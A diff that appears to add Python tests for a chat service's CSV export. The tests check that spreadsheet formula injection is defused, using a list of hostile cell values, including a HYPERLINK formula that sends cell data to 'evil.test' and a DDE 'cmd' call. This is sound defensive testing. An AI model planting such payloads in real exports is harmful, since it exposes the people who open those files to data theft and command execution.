@@ -6,9 +6,14 @@ from __future__ import annotations
 import asyncio
 import csv
 import io
+import os
+import shutil
+from pathlib import Path
 from urllib.parse import quote
+from xml.etree import ElementTree
 
 import orjson
+import pytest
 
 from agentsvc import keys
 from tests.chat_helpers import chat, get_conversation, new_agent, new_tool, user
@@ -37,6 +42,70 @@ async def download(client, auth, path: str, status: int = 200):
 
 def csv_rows(raw: bytes) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO(raw.decode())))
+
+
+# Cells a visitor can write that a spreadsheet would run as formulas unless defused. (A NUL
+# is refused at the door, see test_a_nul_character_is_refused_on_every_backend; a NUL
+# stored earlier is dropped as these control characters are, see the encoder's test.)
+HOSTILE = [
+    '\x08=HYPERLINK("http://evil.test/?d="&A1,"Open")', "=1+1", " =1+1",
+    "   =cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "+1+1", "-1+1", "@SUM(1,1)",
+    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1,1)", "\x01\x02=1+1", "\x1f =1+1",
+    "\x0b=1+1", "\u00a0=1+1", "\u3000=1+1", "\x1b\x07 \x1b=2*3",
+]  # fmt: skip
+# UTF-8, formulas evaluated, leading and trailing spaces removed, special numbers detected:
+# the import settings under which the most cells could turn into formulas.
+CSV_IMPORT = "CSV:44,34,76,1,,1033,false,true,false,false,true,,true"
+ODF_TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
+ODF_TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
+
+
+async def libreoffice_cells(csv_file: Path) -> list[tuple[str | None, str]]:
+    """Every cell of the CSV as LibreOffice Calc reads it: (its formula or None, its text)."""
+    soffice = shutil.which("soffice")
+    if soffice is None:
+        where = "in CI" if os.environ.get("CI") == "true" else "locally"
+        hint = "apt-get install -y libreoffice-calc-nogui (scripts/test.sh does)"
+        pytest.fail(f"soffice is missing {where}: {hint}", pytrace=False)
+    out = csv_file.parent / "converted"
+    proc = await asyncio.create_subprocess_exec(
+        soffice,
+        f"-env:UserInstallation={(csv_file.parent / 'profile').as_uri()}",
+        "--headless",
+        f"--infilter={CSV_IMPORT}",
+        "--convert-to",
+        "fods",
+        "--outdir",
+        str(out),
+        str(csv_file),
+        stdout=asyncio.subprocess.PIPE,
+        stderr=asyncio.subprocess.STDOUT,
+    )
+    log, _ = await asyncio.wait_for(proc.communicate(), 120)
+    converted = out / (csv_file.stem + ".fods")
+    assert proc.returncode == 0 and converted.exists(), log.decode(errors="replace")
+    tree = ElementTree.parse(converted)  # noqa: S314 - written by LibreOffice just now
+    return [
+        (
+            cell.get(f"{{{ODF_TABLE}}}formula"),
+            "\n".join(_odf_text(p) for p in cell.iter(f"{{{ODF_TEXT}}}p")),
+        )
+        for cell in tree.iter(f"{{{ODF_TABLE}}}table-cell")
+    ]
+
+
+def _odf_text(element: ElementTree.Element) -> str:
+    """A paragraph's text, with ODF's spaces (`text:s`) and tabs spelled out."""
+    parts = [element.text or ""]
+    for child in element:
+        if child.tag == f"{{{ODF_TEXT}}}s":
+            parts.append(" " * int(child.get(f"{{{ODF_TEXT}}}c", "1")))
+        elif child.tag == f"{{{ODF_TEXT}}}tab":
+            parts.append("\t")
+        else:
+            parts.append(_odf_text(child))
+        parts.append(child.tail or "")
+    return "".join(parts)
 
 
 async def test_conversations_export_as_csv_one_row_per_message(client, auth):
@@ -76,6 +145,45 @@ async def test_conversations_export_as_csv_one_row_per_message(client, auth):
         "triggerId", "conversationCreatedAt", "messageId", "role", "author", "authorName",
         "content", "rating", "unanswered", "sources", "messageStatus", "messageCreatedAt",
     ]  # fmt: skip
+
+
+async def test_exports_never_carry_a_live_formula(client, auth, tmp_path):
+    """Issue 29 item 4: 20 hostile cells, exported as CSV and opened by LibreOffice Calc."""
+    agent = await new_agent(client, auth, systemPrompt=PROMPT)
+    for text in HOSTILE:  # each one a new conversation: its title is hostile too
+        await talk(client, auth, agent["id"], text)
+    _, raw = await download(
+        client, auth, f"/api/v1/conversations/export?agentId={agent['id']}&format=csv"
+    )
+    contents = [r["content"] for r in csv_rows(raw) if r["role"] == "user"]
+    assert len(contents) == len(HOSTILE)
+    assert all(c.startswith("'") for c in contents), contents
+    assert not any(ord(ch) < 32 and ch not in "\t\r\n" for ch in raw.decode())
+    export = tmp_path / "conversations.csv"
+    export.write_bytes(raw)
+    cells = await libreoffice_cells(export)
+    assert [(f, text) for f, text in cells if f is not None] == []
+    # LibreOffice read every cell, and shows each as the text it was sent (a CR as a line).
+    texts = {text for _, text in cells}
+    missing = [c for c in contents if c.replace("\r\n", "\n").replace("\r", "\n") not in texts]
+    assert missing == []
+
+
+async def test_a_nul_character_is_refused_on_every_backend(client, auth):
+    """`"\\u0000=HYPERLINK(...)"` never reaches the database (PostgreSQL cannot store it:
+    it was a 500 there): a 400 naming the field, for a visitor's chat and a form alike."""
+    agent = await new_agent(client, auth)
+    body = {"agentId": agent["id"], "messages": user('\x00=HYPERLINK("http://evil.test")')}
+    resp = await client.post("/api/v1/chat", json=body)
+    await assert_error(resp, 400, "VALIDATION_ERROR", "messages.0.content: must not contain")
+    resp = await client.post(
+        "/api/v1/form-submissions/submit",
+        json={"toolId": "tool_x", "formData": {"note\x00": "hi"}},
+    )
+    await assert_error(resp, 400, "VALIDATION_ERROR", "formData: must not contain the NUL")
+    # An escaped backslash before `u0000` is no NUL: the text goes through.
+    body["messages"] = user("C:\\u0000")
+    assert (await chat(client, body)).names[-1] == "message_stop"
 
 
 async def test_conversations_export_as_jsonl_with_the_lists_filters(client, auth):
@@ -233,6 +341,8 @@ def test_the_csv_encoder_writes_what_the_csv_module_would():
         'plain', 'a "quoted" word', "comma, here", "line\nbreak", "carriage\rreturn",
         "crlf\r\nend", "=1+1", "+49 30", "-minus", "@user", "\ttab", "", "ünïcödé 東京 🙂",
         '"', ",", "'quote first", " spaced ", "trailing,",
+        "\x00=HYPERLINK(\"http://evil\")", " =1+1", "\u3000\uff1d1", "\uff0b1", "\uff0d1",
+        "\uff20a", "\n@a", "\x1b[0m", "a\x7fb\x01c", "\x0b\x0c-1", "\u2212 1",
     ]  # fmt: skip
     rows = [
         {"id": f"id_{n}", "text": v, "flag": n % 2 == 0, "data": {"k": v}, "number": -n}
@@ -245,9 +355,14 @@ def test_the_csv_encoder_writes_what_the_csv_module_would():
     )
     assert encoded == buffer.getvalue().encode()
     back = list(csv.reader(io.StringIO(encoded.decode(), newline="")))
-    assert [r[1] for r in back[:-1]] == [
-        ("'" + v if v[:1] in ("=", "+", "-", "@", "\t", "\r") else v) for v in values
+    plain = len(values) - 11
+    assert [r[1] for r in back[:plain]] == [
+        ("'" + v if v[:1] in ("=", "+", "-", "@", "\t", "\r") else v) for v in values[:plain]
     ]
+    assert [r[1] for r in back[plain:-1]] == [
+        "'=HYPERLINK(\"http://evil\")", "' =1+1", "'\u3000\uff1d1", "'\uff0b1", "'\uff0d1",
+        "'\uff20a", "'\n@a", "[0m", "a\x7fbc", "'-1", "\u2212 1",
+    ]  # fmt: skip
     assert back[0][2:] == ["true", '{"k":"plain"}', "0"] and back[1][4] == "-1"  # numbers kept
     assert back[-1] == ["id_x", "", "", "", ""]
 
